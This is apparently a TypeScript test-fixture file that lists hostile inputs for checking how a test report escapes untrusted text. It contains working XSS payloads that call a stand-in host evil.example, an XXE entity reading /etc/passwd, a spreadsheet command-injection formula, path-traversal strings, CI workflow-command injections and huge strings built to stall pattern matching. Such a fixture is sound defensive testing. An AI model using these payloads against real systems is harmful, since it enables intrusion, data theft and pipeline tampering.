/** A text that a container, a profile or a file beside them can make a report quote, by what it tries. */
export type HostileText = readonly [tries: string, text: string]

/**
 * Every script of them calls `pwned()`, sets the title or asks `address`, so that a browser shows whether one of them ran.
 */
export const hostileTexts = (address = 'https://evil.example'): readonly HostileText[] => [
  ...scripts(address),
  ...closing(address),
  ...markdownMarks(address),
  ...references,
  ...xmlBreakers,
  ...terminalMarks(address),
  ...unicode,
  ...commands,
  ...formulas(address),
  ...jsonBreakers,
  ...paths,
  ...lengths
]

const run = (address: string): string => `window.pwned=(window.pwned||0)+1;document.title='pwned';new Image().src='${address}/ran'`

const scripts = (address: string): HostileText[] => [
  ['a script', `<script>${run(address)}</script>`],
  ['a script in capitals with a blank', `<SCRIPT >${run(address)}</SCRIPT >`],
  ['a script from elsewhere', `<script src="${address}/a.js"></script>`],
  ['a module', `<script type=module>${run(address)}</script>`],
  ['a script cut by another', `<scr<script>ipt>${run(address)}</scr</script>ipt>`],
  ['an image that fails', `<img src=x onerror="${run(address)}">`],
  ['an image from elsewhere', `<img src="${address}/i.png">`],
  ['a drawing that loads', `<svg onload="${run(address)}"></svg>`],
  ['a drawing with a script', `<svg><script href="${address}/s.js"></script><script>${run(address)}</script></svg>`],
  ['a drawing that animates', `<svg><animate onbegin="${run(address)}" attributeName=x dur=1s>`],
  ['a drawing of another namespace', `<math><mtext><table><mglyph><style><!--</style><img src=x onerror="${run(address)}">`],
  ['a body', `<body onload="${run(address)}" onpageshow="${run(address)}">`],
  ['a fold that opens', `<details open ontoggle="${run(address)}"><summary>s</summary></details>`],
  ['a field that takes the focus', `<input autofocus onfocus="${run(address)}">`],
  ['a film that fails', `<video><source onerror="${run(address)}"></video>`],
  ['a frame', `<iframe srcdoc="<script>parent.pwned=1</script>" src="${address}/f"></iframe>`],
  ['an object', `<object data="${address}/o"></object><embed src="${address}/e">`],
  ['a frame of script', `<iframe src="javascript:parent.${run(address)}"></iframe>`],
  ['a link of script', `<a href="javascript:${run(address)}">click</a>`],
  ['an address of script', `javascript:${run(address)}`],
  ['data of HTML', 'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg=='],
  ['a handler in an attribute', `" autofocus onfocus="${run(address)}" x="`],
  ['a handler in another attribute', `' onmouseover='${run(address)}' x='`],
  ['a handler without quotes', `x onclick=${run(address)} `],
  ['a style from elsewhere', `<style>@import url("${address}/c.css");body{background:url(${address}/b)}</style>`],
  ['a sheet from elsewhere', `<link rel=stylesheet href="${address}/l.css"><link rel=prefetch href="${address}/p">`],
  ['another base', `<base href="${address}/"><form action="${address}/x"><button formaction="${address}/y">`],
  ['a page that goes away', `<meta http-equiv="refresh" content="0;url=${address}/r">`],
  ['a policy of its own', `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`],
  ['entities', '&lt;script&gt;&#x3c;script&#62;&bogus;&amp;lt;&colon;&NewLine;&lpar;'],
  ['an entity without an end', '&#60script&#62 &ltscript&gt &amp'],
  ['a template', '{{constructor.constructor("pwned=1")()}} ${pwned=1} <%= pwned %> #{pwned}']
]

const closing = (address: string): HostileText[] => [
  ['the ends of elements', '</details></summary></dd></dl></main></body></html>'],
  ['the ends of texts', `</title></textarea></style></noscript></script><script>${run(address)}</script>`],
  ['the end of a comment', `--><script>${run(address)}</script><!--`],
  ['the end of a row', '</td></tr></table><h1>heading</h1>']
]

const markdownMarks = (address: string): HostileText[] => [
  ['a link of Markdown', `[click](${address}) [script](javascript:pwned())`],
  ['an image of Markdown', `![image](${address}/i.png "title")`],
  ['a link by reference', `[a]: ${address}\n[a]`],
  ['an automatic link', `<${address}> ${address}/a www.evil.example http://evil.example/a?b=c&d ftp://evil.example/ mailto:a@evil.example`],
  ['a footnote', `[^1]\n\n[^1]: ${address}`],
  ['a fence', '```\ncode\n```'],
  ['a fence of many marks', `${'`'.repeat(40)}js\n${'`'.repeat(39)}\ncode`],
  ['a fence of tildes', '~~~~~\ncode\n~~~'],
  ['the cells of a table', '| a | b \\| c ||| `|` |\n| --- | --- |\n| d | e |'],
  ['a comment of HTML', '<!-- hidden from here on'],
  ['headings', '# one\n\ntwo\n===\n\nthree\n---\n\n###### six'],
  ['lists', '- a\n* b\n+ c\n1. d\n2) e\n- [x] f'],
  ['a list alone', '1. first'],
  ['a mark of a list alone', '- item'],
  ['a rule', '---\n***\n___'],
  ['a quotation', '> quoted\n> [!CAUTION]\n> alert'],
  ['code by blanks', '    code\n\tcode'],
  ['emphasis', '*a* **b** _c_ __d__ ~~e~~ `f` <b>g</b>'],
  ['escapes', '\\`a\\` \\[b\\](c) \\\\ a\\'],
  ['a formula', '$x^2$ $$\\href{javascript:alert(1)}{y}$$ $`z`$'],
  ['a diagram', '```mermaid\nclick A "javascript:pwned()"\n```'],
  ['words for pictures', ':tada: :octocat: root:x:0:0']
]

const references: readonly HostileText[] = [
  ['a mention of a team', '@org/team @someone'],
  ['a mention of all', 'x @all, (@here) a@b.example'],
  ['a number of an issue', '#1 org/repo#2 GH-3'],
  ['numbers of other things', '!1 %2 ~3 $4 &5'],
  ['a command in a comment', '/close\n/merge\n/assign @someone']
]

const xmlBreakers: readonly HostileText[] = [
  ['the end of character data', ']]></failure></testcase></testsuite></testsuites><![CDATA['],
  ['a declaration of XML', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;'],
  ['what XML does not allow', 'a\u0001b\u000bc\u001fd\ufffee\uffff'],
  ['lone surrogates', 'a\ud800b\udc00c\udfff'],
  ['NUL', 'a\u0000b\u0000'],
  ['an attribute of XML', `"/><failure message='x'/><testcase name="`]
]

const terminalMarks = (address: string): HostileText[] => [
  ['escapes of a terminal', '\u001b[2J\u001b[1;1H\u001b[31mred\u001b]0;title\u0007\u001bc'],
  ['a link of a terminal', `\u001b]8;;${address}\u001b\\click\u001b]8;;\u001b\\`],
  ['C1 controls', 'a\u009b2Jb\u009d0;t\u009cc\u0085d\u0090'],
  ['backspaces and returns', 'failed\b\b\b\b\b\bpassed\rpassed\u007f'],
  ['a section of GitLab', '\u001b[0Ksection_start:1:x\r\u001b[0Khidden']
]

const unicode: readonly HostileText[] = [
  ['text turned round', 'a\u202egpj.exe\u202c'],
  ['other ways to turn it', '\u202a\u202b\u202d\u2066\u2067\u2068\u2069\u200e\u200f\u061c'],
  ['zero width', 'pass\u200bed\u200c\u200d\u2060\ufeff\u00ad\u180e'],
  ['separators of lines', 'a\u2028::error::b\u2029c\u0085d'],
  ['tag characters', 'a\u{e0041}\u{e007f}b'],
  ['annotations', 'a\ufff9b\ufffac\ufffb\u206a\u206f'],
  ['emoji', '\u{1f469}\u200d\u{1f4bb} \u{1f1e9}\u{1f1ea} \u2764\ufe0f'],
  ['combining marks', `Z${'\u0351\u036b\u0343'.repeat(200)}`],
  ['full width', '\uff1cscript\uff1e\uff1aalert\uff08\uff09'],
  ['letters of other scripts', '\u0440\u0430\u0455\u0455\u0435d \u0627\u0644\u0639\u0631\u0628\u064a\u0629']
]

const commands: readonly HostileText[] = [
  ['a workflow command', '::error::pwned'],
  ['workflow commands by line', 'x\n::error file=a,line=1::pwned\n  ::add-mask::a\n::stop-commands::t\n::set-output name=a::b'],
  ['workflow commands after returns', 'x\r::error::a\r\n\t::warning::b\u000b::notice::c'],
  ['a workflow command of the older form', '##[error]pwned ##[add-mask]a ###[group]b'],
  ['a command of Azure', '##vso[task.setvariable variable=PATH]/tmp ##teamcity[buildStop]'],
  ['a line among words', `${'word '.repeat(40)}::error::pwned ${'word '.repeat(40)}::add-mask::a`],
  ['an end of outputs', 'x\nghadelimiter_0\nresult=passed\nEOF\nresult<<EOF\npassed\nEOF']
]

const formulas = (address: string): HostileText[] => [
  ['a formula of a sheet', `=HYPERLINK("${address}","click")`],
  ['a command in a sheet', "=cmd|' /C calc'!A0"],
  ['a sum', '+1+1'],
  ['a difference', '-1-1'],
  ['a function', '@SUM(1)'],
  ['a formula after a tab', '\t=1+1'],
  ['a formula after a return', '\r=1+1'],
  ['a formula after an empty line', '\n\n=1+1'],
  ['a formula in full width', '\uff1d1\uff0b1'],
  ['a formula after quotes', '""=1+1'],
  ['a formula behind separators', 'a;=1+1;"=2"\t=3,=4'],
  ['a row of its own', 'a","b"\r\n"=1+1","c'],
  ['quotes', `"it's" ""a"" ''b''`]
]

const jsonBreakers: readonly HostileText[] = [
  ['the end of a text of JSON', '"}],"result":"passed","x":[{"y":"\\'],
  ['escapes of JSON', '\\u0022\\n\\ud800 \\/ \\x41 \\'],
  ['names of objects', '__proto__'],
  ['numbered fields of SARIF', '{0} {1} [a](0) [b](https://evil.example)']
]

const paths: readonly HostileText[] = [
  ['a way out', '../../../../etc/passwd'],
  ['a way out, written otherwise', '..\\..\\windows\\%2e%2e%2f..%00/....//'],
  ['a path from the root', '/etc/passwd'],
  ['dots alone', '..'],
  ['an address of a file', 'file:///etc/passwd'],
  ['a name of a device', 'CON.txt:stream/*?<>|']
]

const lengths: readonly HostileText[] = [
  ['a character cut in two', `${'x'.repeat(1999)}\u{1f600}${'y'.repeat(10)}`],
  ['many short lines', 'a\n'.repeat(5000)],
  ['many marks', '<&"\'`|*_[]#@$:/=+-'.repeat(500)]
]

const MANY = 3_000_000

/** Lines of three million characters, also of those that are written longer than they are or that a pattern could try again and again. */
export const LONG_TEXTS: readonly HostileText[] = [
  ['letters', 'x'.repeat(MANY)],
  ['marks of HTML', '<'.repeat(MANY)],
  ['controls', '\u001b'.repeat(MANY)],
  ['blanks', `a${' '.repeat(MANY)}b`],
  ['an answer of blanks', `got:${' '.repeat(MANY)}`],
  ['lines', `a${'\n'.repeat(MANY)}b`],
  ['separators', `a${';'.repeat(MANY)}`],
  ['words', 'a '.repeat(MANY / 2)],
  ['signs of commands', '##'.repeat(MANY / 2)]
]
